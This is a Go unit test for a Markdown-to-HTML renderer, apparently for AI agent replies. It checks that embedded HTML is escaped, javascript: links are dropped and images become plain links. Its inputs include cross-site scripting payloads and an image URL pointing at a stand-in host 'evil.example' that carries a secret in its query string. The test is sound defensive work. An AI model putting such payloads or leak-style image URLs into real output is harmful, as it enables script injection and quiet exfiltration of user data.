package markdown_test

import (
	"strings"
	"testing"

	"github.com/agentplane/agentplane/shared/kit/markdown"
)

// A reply's Markdown becomes HTML; the HTML it holds is shown as text, never obeyed; links to
// other sites open apart; script URLs do not survive.
func TestHTML(t *testing.T) {
	for _, tt := range []struct {
		name, text   string
		has, hasNone []string
	}{
		{"Markdown", "We open at **nine**.\n\n- Monday\n- Saturday\n\n`code`", []string{"<strong>nine</strong>", "<li>Monday</li>", "<code>code</code>"}, nil},
		{"InlineHTML", `Look <img src=x onerror="alert(1)"> here`, []string{"&lt;img src=x onerror=&#34;alert(1)&#34;&gt;"}, []string{"<img"}},
		{"BlockHTML", "<script>alert(1)</script>\n\nafter", []string{"&lt;script&gt;alert(1)&lt;/script&gt;", "<p>after</p>"}, []string{"<script"}},
		{"Link", "[the docs](https://example.com/docs)", []string{`href="https://example.com/docs"`, `rel="nofollow noopener"`, `target="_blank"`}, nil},
		{"ScriptURL", "[click](javascript:alert(1))", []string{"click"}, []string{"javascript:"}},
		{"CodeKeepsItsText", "`<b>` is bold", []string{"<code>&lt;b&gt;</code>"}, []string{"<b>"}},
		{"ImageIsALink", "See ![the chart](https://evil.example/leak?secret=42&x=1)", []string{`<a href="https://evil.example/leak?secret=42&amp;x=1"`, ">the chart</a>"}, []string{"<img"}},
		{"ImageWithoutText", "![](https://evil.example/a.png)", []string{`<a href="https://evil.example/a.png"`, ">https://evil.example/a.png</a>"}, []string{"<img"}},
		{"LinkedImage", "[![logo](https://evil.example/l.png)](https://example.com)", []string{"logo"}, []string{"<img"}},
		{"ImageReference", "![chart][c]\n\n[c]: https://evil.example/c.png", []string{"chart"}, []string{"<img"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := markdown.HTML(tt.text)
			for _, want := range tt.has {
				if !strings.Contains(got, want) {
					t.Errorf("%q rendered %q, without %q", tt.text, got, want)
				}
			}
			for _, bad := range tt.hasNone {
				if strings.Contains(got, bad) {
					t.Errorf("%q rendered %q, with %q", tt.text, got, bad)
				}
			}
		})
	}
}
